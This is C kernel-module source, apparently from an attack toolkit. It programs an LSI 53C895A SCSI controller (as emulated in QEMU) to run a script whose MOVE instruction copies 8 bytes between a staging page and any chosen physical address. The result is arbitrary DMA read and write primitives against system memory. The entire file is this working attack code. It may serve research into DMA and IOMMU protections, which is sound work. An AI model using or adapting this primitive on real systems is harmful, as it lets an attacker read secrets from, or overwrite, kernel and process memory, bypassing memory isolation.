// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * A device that copies memory as it is told: the LSI 53C895A, a SCSI controller that runs little
 * programs ("scripts"), of which one instruction moves memory from anywhere to anywhere
 * (QEMU: -device lsi53c895a; it needs no message-signalled interrupts, which this machine has not).
 *
 * `dma-read ADDRESS`: has it copy 8 bytes from there over a mark of ours; "value" is what is there
 * then, "mark" what was there. `dma-write ADDRESS VALUE`: has it copy 8 bytes of ours to there.
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/pci.h>

#include "flexattack.h"

enum { REGISTERS_BAR = 1, SCRIPT_ADDRESS = 0x2c };
enum { MOVE = 0xc0000000, STOP = 0x98080000 };
static const u64 mark = 0x6b72616d;

/* On our own page: what the device runs, and the word that it reads or writes. */
struct stage {
	__le32 script[5];
	u32 unused;
	u64 word;
};

static void with_device(struct attack *attack, void (*act)(struct attack *, void __iomem *))
{
	struct pci_dev *device = pci_get_device(COPYING_DEVICE, NULL);
	void __iomem *registers = NULL;

	attack->error = -ENODEV;
	if (!device)
		return;
	if (!pci_enable_device(device)) {
		pci_set_master(device);
		registers = pci_iomap(device, REGISTERS_BAR, 0);
	}
	if (registers) {
		attack->error = 0;
		act(attack, registers);
		pci_iounmap(device, registers);
	}
	pci_dev_put(device);
}

/* Copies between the word of the stage and `address`. The device is done when the write is. */
static void copy(void __iomem *registers, u32 from, u32 to)
{
	struct stage *stage = page_address(victim());
	const u32 script[] = { MOVE | sizeof(stage->word), from, to, STOP, 0 };

	for (int i = 0; i < ARRAY_SIZE(script); i++)
		WRITE_ONCE(stage->script[i], cpu_to_le32(script[i]));
	wmb();
	writel(page_to_phys(victim()), registers + SCRIPT_ADDRESS);
	msleep(20);
}

static u32 word_at(void)
{
	return page_to_phys(victim()) + offsetof(struct stage, word);
}

static void read_there(struct attack *attack, void __iomem *registers)
{
	struct stage *stage = page_address(victim());

	WRITE_ONCE(stage->word, mark);
	copy(registers, word(attack, 1), word_at());
	tell(attack, "mark", mark);
	tell(attack, "value", READ_ONCE(stage->word));
}

static void write_there(struct attack *attack, void __iomem *registers)
{
	struct stage *stage = page_address(victim());

	WRITE_ONCE(stage->word, word(attack, 2));
	copy(registers, word_at(), word(attack, 1));
}

void dma_read(struct attack *attack)
{
	with_device(attack, read_there);
}

void dma_write(struct attack *attack)
{
	with_device(attack, write_there);
}
